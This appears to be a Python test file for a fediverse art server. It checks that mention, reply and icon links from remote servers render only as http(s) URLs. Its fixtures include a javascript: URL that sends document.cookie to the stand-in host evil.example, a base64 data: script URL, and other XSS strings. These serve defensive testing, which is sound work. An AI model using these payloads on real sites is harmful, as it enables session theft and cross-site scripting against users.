"""Links other servers control are rendered only if they are http(s): mentions, replies, icons."""

from __future__ import annotations

import re

from helpers import BROWSER_ACCEPT
from posting import publish

from fediart.store.tables import Post
from fediart.web.safety import safe_url

HOSTILE_PAGE = "javascript:fetch('https://evil.example/?c='+document.cookie)"
HOSTILE_ICON = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="


def hostile_actor(network, username: str, host: str = "evil.example"):
    """A Mastodon-shaped actor whose `url` and `icon` are scripts, served on the fake network."""
    return network.add_actor(username, host=host, extra={
        "url": HOSTILE_PAGE,
        "icon": {"type": "Image", "mediaType": "image/png", "url": HOSTILE_ICON},
    })


def attribute_urls(html: str) -> list[str]:
    return re.findall(r'(?:href|src)="([^"]*)"', html)


async def post_page(client, post_id: int) -> str:
    response = await client.get(f"/@ana/{post_id}", headers={"Accept": BROWSER_ACCEPT})
    assert response.status_code == 200
    return response.text


def assert_only_web_links(html: str) -> None:
    for url in attribute_urls(html):
        assert url.startswith(("https://", "http://")), url
    assert "javascript:" not in html and "data:text" not in html


async def test_a_mentioned_actor_with_a_script_url_is_no_live_link(client, services, network, make_artist):
    await make_artist("ana")
    mal = hostile_actor(network, "mal")
    post = await publish(services, text="Look at this, @mal@evil.example")
    assert any(t["href"] == mal.uri for t in post.tags)  # the mention was resolved, with its hostile url
    html = await post_page(client, post.id)
    assert_only_web_links(html)
    # The script `url` was never stored, so the mention links to the actor's id instead.
    assert ('<a href="https://evil.example/users/mal" class="u-url mention" rel="nofollow noopener noreferrer">'
            '@<span>mal</span></a>') in html


async def test_the_author_of_a_replied_to_post_with_a_data_url_is_no_live_link(client, services, network, make_artist):
    await make_artist("ana")
    rex = network.add_actor("rex", host="evil.example", extra={"url": HOSTILE_ICON, "icon": HOSTILE_ICON})
    original = network.add_document({"id": "https://evil.example/users/rex/statuses/1", "type": "Note",
                                     "attributedTo": rex.uri, "content": "<p>hello</p>"})
    # A reply names its author, as Mastodon's compose box prefills it.
    post = await publish(services, text="@rex@evil.example Thanks", reply_to=original["id"])
    html = await post_page(client, post.id)
    assert_only_web_links(html)
    assert '<a href="https://evil.example/users/rex/statuses/1" rel="nofollow noopener noreferrer">' in html


async def page_of_stored_post(client, services, text: str, **stored) -> str:
    """The page of a post whose row was changed behind the checks (as an old row or an import would be)."""
    post = await publish(services, text=text)
    async with services.sessions() as session:
        row = await session.get(Post, post.id)
        for name, value in stored.items():
            setattr(row, name, value)
        session.add(row)
        await session.commit()
    services.cache.clear()
    return await post_page(client, post.id)


async def test_a_stored_reply_target_that_is_not_http_is_shown_as_text(client, services, make_artist):
    """inReplyTo rows written before fetches checked ids, or by an import, render as text."""
    await make_artist("ana")
    html = await page_of_stored_post(client, services, "old reply", in_reply_to=HOSTILE_PAGE)
    assert_only_web_links(html.replace("javascript:fetch(&#39;https://evil.example/?c=&#39;+document.cookie)", ""))
    assert "<code>javascript:fetch(&#39;https://evil.example/?c=&#39;+document.cookie)</code>" in html


async def test_stored_post_html_with_a_script_link_is_cleaned_when_shown(client, services, make_artist):
    """Content stored before mentions were checked (or by an import) is cleaned again on the page."""
    await make_artist("ana")
    html = await page_of_stored_post(
        client, services, "old post",
        content=f'<p>see <a href="{HOSTILE_PAGE}" class="u-url mention">@<span>mal</span></a></p>')
    assert_only_web_links(html)
    assert "@<span>mal</span></a>" in html  # the text stays; the script link does not


def test_safe_url_keeps_web_urls_and_refuses_the_rest():
    assert safe_url("https://remote.example/@bob") == "https://remote.example/@bob"
    assert safe_url(" http://127.0.0.1:8000/x ") == "http://127.0.0.1:8000/x"
    for bad in (HOSTILE_PAGE, HOSTILE_ICON, "JavaScript:alert(1)", "vbscript:x", "//evil.example/x", "/local",
                "https:///nohost", "https://evil.example/\tx", "java\nscript:alert(1)", None, 42, {"url": "https://x"}):
        assert safe_url(bad) is None, bad
